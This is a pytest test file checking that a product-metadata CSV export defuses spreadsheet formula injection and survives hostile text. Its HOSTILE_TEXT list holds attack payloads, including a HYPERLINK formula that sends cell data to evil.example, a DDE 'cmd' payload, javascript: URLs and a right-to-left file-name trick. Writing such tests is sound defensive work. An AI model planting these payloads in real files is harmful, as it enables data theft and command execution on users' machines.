"""CSV export of hostile metadata: no cell a spreadsheet would run as a formula, no broken rows,
and everything reads back exactly (tests/test_export.py covers hostile file names).
"""

from __future__ import annotations

import csv

import pytest
from imagegen import write_image
from searching import search_image

from visualfinder.products.export import COLUMNS, unneutralise

HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'quote " inside, and a comma',
    "line one\nline two\r\nline three",
    "semi;colon\ttab",
    "nul\x00byte",
    "right-to-left \u202eexe.jpg",
    "emoji 🪑 and 製品",
    "",
    "x" * 100_000,
]


@pytest.mark.parametrize("excel", [False, True])
def test_hostile_metadata_exports_without_formulas_or_broken_rows(library, tmp_path, excel):
    root = tmp_path / "catalog"
    paths = [write_image(root / f"item_{i:02d}.jpg", i, (64, 48)) for i in range(len(HOSTILE_TEXT))]
    library.index([root])
    rows_in = {}
    for i, path in enumerate(paths):
        text, other = HOSTILE_TEXT[i], HOSTILE_TEXT[-1 - i]
        extra = {"=note": text[:200], "+count": -3, "nested": {"@k": other[:20]}}
        library.products.update_metadata(path, title=text, description=other, sku=other[:64], url="javascript:" + text[:50],
                                price=-1.5 if i % 2 else None, extra=extra)  # fmt: skip
        rows_in[str(path)] = {"title": text, "description": other, "sku": other[:64], "'=note": text[:200]}
    for i, path in enumerate(paths):
        library.products.add_tags(path, [HOSTILE_TEXT[i][:40] or "plain", "=tag", "-sale"])
    results = search_image(library, paths[0], k=len(paths))
    out = library.export_csv(results, tmp_path / "out.csv", excel=excel)
    with open(out, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    assert tuple(header[: len(COLUMNS)]) == COLUMNS
    assert set(header[len(COLUMNS) :]) == {"'=note", "'+count", "nested"}  # names are cells too
    body = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert len(body) == len(paths)  # an embedded newline never splits a row
    for row in body:
        for column, cell in row.items():
            if not _is_number(cell):  # -1.5 is a number to a spreadsheet, not a formula
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell[:40])
        want = rows_in[row["path"]]
        for column in ("title", "description", "sku", "'=note"):
            assert unneutralise(row[column]) == want[column], column
        assert row["price"] in ("", "-1.5") and row["'+count"] == "-3"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower() not in ("nan", "inf", "-inf", "infinity", "-infinity")
